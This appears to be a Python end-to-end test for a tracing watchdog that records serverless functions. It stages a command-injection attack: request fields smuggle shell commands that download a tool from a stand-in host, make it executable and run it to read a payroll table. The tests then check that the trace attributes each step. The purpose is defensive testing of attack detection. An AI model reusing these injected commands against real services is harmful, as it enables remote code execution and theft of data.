"""The same attack on other functions, in other languages and modes of the watchdog."""
import os
import unittest

from e2e.world import LabCase, needs_recording

FUNCTIONS = os.path.join(os.path.dirname(os.path.abspath(__file__)), "functions")
TOOL = "/tmp/update"
URL = "http://198.18.8.8/update"


class Elsewhere:
    entry = victim = None

    @classmethod
    def stack(cls):
        return os.path.join(FUNCTIONS, "stack.yml")

    @classmethod
    def send(cls, name):
        answer = cls.invoke(cls.entry, name + "\n", "--header", "Content-Type: text/plain")
        if answer["status"] != 200:
            raise AssertionError(f"{cls.entry}: {answer}")
        return answer

    @classmethod
    def story(cls):
        cls.benign = [cls.send(f"customer{number}") for number in range(5)]
        cls.plant = cls.send(f"x; curl -s -o {TOOL} {URL}; chmod 755 {TOOL}")
        cls.benign += [cls.send(f"customer{number}") for number in range(5, 8)]
        cls.execute = cls.send(f"x; {TOOL}")
        cls.benign += [cls.send("customer9")]
        if "carol\t6000" not in cls.execute["body"]:
            raise AssertionError(f"the attack did not work: {cls.execute}")

    def of(self, root):
        """Invocation of the victim on behalf of one of the attack's requests."""
        return next(r["id"] for r in self.requests if r["id"] in self.family(root["request"]) and r["function"] == self.victim)

    def test_every_step_is_shown(self):
        trace = self.ask("trace", self.execute["request"], "--both")
        plant, execute = self.of(self.plant), self.of(self.execute)
        self.assert_edge(trace, ("object", URL), "get", ("process", r"curl\b.*"), request=plant)
        self.assert_edge(trace, ("process", r"curl\b.*"), "write", ("file", TOOL), request=plant)
        self.assert_edge(trace, ("process", r"chmod\b.*"), "chmod", ("file", TOOL), request=plant)
        loads = self.edges(trace, ("file", TOOL), "load", ("process", ".*"), request=execute) \
            + self.edges(trace, ("file", TOOL), "read", ("process", ".*"), request=execute)
        self.assertTrue(loads, "the tool was not executed")
        self.assert_edge(trace, ("object", r"sql:payroll\.salaries"), "get", ("process", r"(mysql|mariadb)\b.*"), request=execute)
        self.assert_edge(trace, ("request", ".*"), "returns", ("client", ".*"), request=self.execute["request"])

    def test_the_others_are_not(self):
        trace = self.ask("trace", self.execute["request"], "--both")
        strangers = self.strangers(self.plant["request"], self.execute["request"])
        self.assertGreaterEqual(len(strangers), len(self.benign))
        self.assert_free_of(trace, strangers)
        self.assert_complete(trace)
        self.assert_sound(trace)

    def test_it_goes_forward_from_the_first_request(self):
        trace = self.ask("trace", self.plant["request"], "--forward")
        self.assert_reaches(trace, self.execute["request"])

    def test_there_is_a_path_from_the_place_of_the_tool_to_the_thief(self):
        trace = self.ask("path", f"object:{URL}", f"request:{self.execute['request']}")
        self.assert_edge(trace, ("process", r"curl\b.*"), "write", ("file", TOOL))


@needs_recording
class PythonThroughAnotherFunction(Elsewhere, LabCase):
    entry, victim = "front", "invoice"


@needs_recording
class AProcessForEachRequest(Elsewhere, LabCase):
    entry = victim = "legacy"

    def test_nothing_in_it_is_a_guess(self):
        """The process tree is the request: the kernel says so."""
        trace = self.ask("trace", self.execute["request"], "--backward")
        inside = {node["id"] for node in trace["nodes"] if node["kind"] == "process"}
        kinds = {edge["attribution"] for edge in trace["edges"] if edge["from"] in inside and edge["to"] in inside}
        self.assertLessEqual(kinds, {"exact"})


if __name__ == "__main__":
    unittest.main()
